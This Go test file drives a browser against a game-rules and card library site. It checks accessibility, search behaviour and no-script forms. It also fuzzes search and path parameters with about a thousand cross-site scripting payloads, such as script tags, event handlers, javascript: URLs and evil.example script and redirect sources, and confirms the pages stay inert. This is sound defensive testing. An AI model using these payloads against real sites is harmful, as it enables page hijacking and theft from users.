package library_test

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"arbiter/internal/chromium"
)

// narrow is the narrowest phone.
var narrow = chromium.Options{Width: 360, Height: 640, Touch: true}

// A page of each kind has nothing that keeps people from reading or using it, on a phone,
// and in turn on a dark tablet and on a desktop, and loads nothing that its policy forbids.
func TestAccessible(t *testing.T) {
	t.Parallel()
	site := serve(t, newJudge(t, file{}, editions...))
	for _, screen := range []struct {
		name string
		chromium.Options
	}{{"360", narrow}, {"1024-dark", chromium.Tablet.InDark()}, {"1920", chromium.Desktop}} {
		p := chromium.New(t, screen.Options)
		for i, k := range kinds {
			if screen.name == "1024-dark" && i%2 == 0 || screen.name == "1920" && i%2 == 1 {
				continue
			}
			p.Go(site + k.path)
			p.Save(fmt.Sprintf("%02d-%s", i, screen.name))
			p.Accessible()
			if wide := chromium.Evaluate[int](p, `document.documentElement.scrollWidth`); wide > screen.Width { // a phone's window grows with its page
				t.Errorf("%s is %d pixels wide in a window of %s", k.path, wide, screen.name)
			}
			if found := p.Problems(); k.status == 404 {
				if len(found) != 1 || !strings.Contains(found[0], "404") {
					t.Errorf("%s: %v", k.path, found)
				}
			} else if len(found) > 0 {
				t.Errorf("%s: %v", k.path, found)
			}
		}
	}
}

// Search as one types, with keys and with the mouse.
func TestSearchAsTyped(t *testing.T) {
	t.Parallel()
	p := chromium.Open(t, serve(t, newJudge(t, nil, editions[0]))+"/rules/magic", chromium.Desktop)
	p.Type("#q", "deatht")
	p.Until(`document.querySelector("#found li")?.textContent.includes("Deathtouch")`)
	if says := chromium.Evaluate[string](p, `document.querySelector("#q").getAttribute("aria-expanded")`); says != "true" {
		t.Errorf("a screen reader hears %q", says)
	}
	p.Accessible()
	p.Press(chromium.ArrowDown)
	p.Until(`document.querySelector("#q").getAttribute("aria-activedescendant") === "found-0"`)
	p.Press(chromium.Enter)
	p.Until(`location.pathname === "/rules/magic/702.2" && document.readyState === "complete"`)

	p.Type("#q", "legend ru")
	p.Until(`document.querySelector("#found li")?.textContent === "Legend Rule"`)
	p.Press(chromium.Escape)
	p.Until(`document.querySelector("#found").hidden`)
	p.Type("#q", "l")
	p.Until(`!document.querySelector("#found").hidden`)
	p.Click("#found li")
	p.Until(`location.pathname !== "/rules/magic/702.2" && document.querySelector("h1")?.textContent.toLowerCase().includes("legend rule")`)
}

// Without script, a form leads to the answer.
func TestWithoutScript(t *testing.T) {
	t.Parallel()
	p := chromium.Open(t, serve(t, newJudge(t, nil, editions[0]))+"/rules", chromium.Phone.WithoutScript())
	p.Type("#q", "deathtouch")
	p.Follow(".search button")
	if title := p.Text("h1"); !strings.HasPrefix(title, "702.2") {
		t.Error(title)
	}
	p.Follow(`.items a[href="/rules/magic/702.2b"]`)
	if title := p.Text("h1"); !strings.HasPrefix(title, "702.2b") {
		t.Error(title)
	}
}

// payloads returns texts that try to be more than text: each beginning with each body.
func payloads(n int) []string {
	var all []string
	for _, before := range []string{
		"", `"`, "'", "`", ">", `">`, "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "<!--", "\x00", "\u2028", "{{", "${", `\`, "%22%3E", "&quot;&gt;", "<a href=x>", "<svg>", "<math>",
		"<template>", "<noscript>", "<style>", "＜", "%", "\r\n\r\n", "//", "javascript:", "data:text/html,", "../", "..%2f", " ", "\u202e",
	} {
		for _, body := range []string{
			`<script>hacked()</script>`, `<img src=x onerror=hacked()>`, `<svg onload=hacked()>`, `<svg><script>hacked()</script>`, `<iframe srcdoc="<script>parent.hacked()</script>">`,
			`<a href="javascript:hacked()">x</a>`, `<body onload=hacked()>`, `<details open ontoggle=hacked()>`, `<input autofocus onfocus=hacked()>`, `<style>*{background:url(//evil.example)}</style>`,
			`<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example>`, `<form action=//evil.example><button>x`, `<object data=//evil.example>`,
			`<embed src=//evil.example>`, `<math><mtext><table><mglyph><style><img src=x onerror=hacked()>`, `onmouseover=hacked() x=`, `{{hacked()}}`, `${hacked()}`, `javascript:hacked()//`, `&lt;script&gt;hacked()&lt;/script&gt;`,
			`\u003cscript\u003ehacked()\u003c/script\u003e`, `%3Cscript%3Ehacked()%3C/script%3E`, `<scr<script>ipt>hacked()</script>`, `<ScRiPt>hacked()</sCrIpT>`, `<script/src=//evil.example/x.js>`, `<video><source onerror=hacked()>`, `<p style="animation:x" onanimationstart=hacked()>`,
		} {
			all = append(all, before+body)
		}
	}
	random := rand.New(rand.NewPCG(1, 2)) //nolint:gosec // the same texts in each run
	const letters = `<>"'&/=;:()[]{}#%\` + "`\x00\n\u2028 aAscriptonload"
	for len(all) < n {
		var text strings.Builder
		for range 1 + random.IntN(60) {
			text.WriteByte(letters[random.IntN(len(letters))])
		}
		all = append(all, text.String())
	}
	return all[:n]
}

// A thousand hostile texts in every place that shows what was asked stay texts: they add
// no element and no attribute, run nothing, and lead nowhere else.
func TestHostile(t *testing.T) {
	t.Parallel()
	site := serve(t, newJudge(t, nil, editions[0], editions[1]))
	p := chromium.Open(t, site+"/rules", chromium.Desktop)
	var found []string
	all := payloads(1000)
	for part := range slices.Chunk(all, 100) { // the timeout is per request
		found = append(found, hacked(p, part)...)
	}
	for _, f := range found[:min(len(found), 20)] {
		t.Error(f)
	}
	for _, problem := range p.Problems() {
		if !strings.Contains(problem, "404") { // expected
			t.Error(problem)
		}
	}
	// Some are loaded as pages, where scripts would run.
	for i, text := range all {
		if i%100 == 0 {
			p.Go(site + "/rules?q=" + strings.NewReplacer("%", "%25", "&", "%26", "+", "%2B", "#", "%23", " ", "%20", "\n", "%0A", "\r", "%0D", "\x00", "%00").Replace(text))
			for _, problem := range p.Problems() {
				if !strings.Contains(problem, "404") {
					t.Errorf("%q: %s", text, problem)
				}
			}
		}
	}
}

// hacked requests pages with texts, and returns those that have added elements, attributes or
// scripts to a page.
func hacked(p *chromium.Page, texts []string) []string {
	raw, err := json.Marshal(texts)
	if err != nil {
		panic(err) // texts
	}
	return chromium.Evaluate[[]string](p, `(async () => {
		window.hacked = () => { throw new Error("hacked") };
		const allowed = /^(HTML|HEAD|META|TITLE|LINK|SCRIPT|BODY|A|HEADER|IMG|SPAN|NAV|MAIN|OL|UL|LI|FORM|LABEL|INPUT|BUTTON|ARTICLE|SECTION|DIV|H1|H2|H3|P|B|BLOCKQUOTE|CODE|SELECT|OPTION|DETAILS|SUMMARY|FOOTER|INS|DEL)$/;
		const own = (address) => new URL(address, location.href).origin === location.origin;
		const places = [
			(text) => "/rules?q=" + encodeURIComponent(text), (text) => "/rules/magic?q=" + encodeURIComponent(text), (text) => "/cards?q=" + encodeURIComponent(text),
			(text) => "/rules/magic/" + encodeURIComponent(text), (text) => "/cards/magic/" + encodeURIComponent(text), (text) => "/cards/magic/tokens/" + encodeURIComponent(text),
			(text) => "/rules/magic/704.5f?edition=" + encodeURIComponent(text), (text) => "/rules/magic/" + encodeURIComponent(text) + "/history",
			(text) => "/rules/magic/changes?section=" + encodeURIComponent(text), (text) => "/rules/magic/changes?from=" + encodeURIComponent(text), (text) => "/rules/" + encodeURIComponent(text),
		];
		const bad = [];
		let asked = 0;
		for (const [i, text] of `+string(raw)+`.entries()) {
			const address = places[i % places.length](text);
			const answer = await fetch(address);
			const body = await answer.text();
			asked++;
			if (answer.status >= 500 || new URL(answer.url).origin !== location.origin) bad.push(answer.status + " " + answer.url);
			if (!(answer.headers.get("content-type") || "").startsWith("text/html")) continue;
			const page = new DOMParser().parseFromString(body, "text/html");
			for (const e of page.querySelectorAll("*")) {
				const at = address + ": " + e.outerHTML.slice(0, 200);
				if (!allowed.test(e.tagName)) bad.push("an element, " + at);
				if (e.tagName === "SCRIPT" && (e.textContent !== "" || !own(e.getAttribute("src")) || !e.getAttribute("src").startsWith("/static/"))) bad.push("a script, " + at);
				if (e.tagName === "META" && e.httpEquiv) bad.push("a header, " + at);
				for (const a of e.attributes) {
					if (a.name.startsWith("on") || a.name === "style" || a.name === "srcdoc") bad.push("an attribute, " + at);
					if (["href", "src", "action"].includes(a.name) && !own(a.value)) bad.push("leads away, " + at);
				}
			}
			if (!page.querySelector("h1")) bad.push("no heading at " + address);
		}
		if (asked !== `+fmt.Sprint(len(texts))+`) bad.push("only " + asked);
		return bad;
	})()`)
}
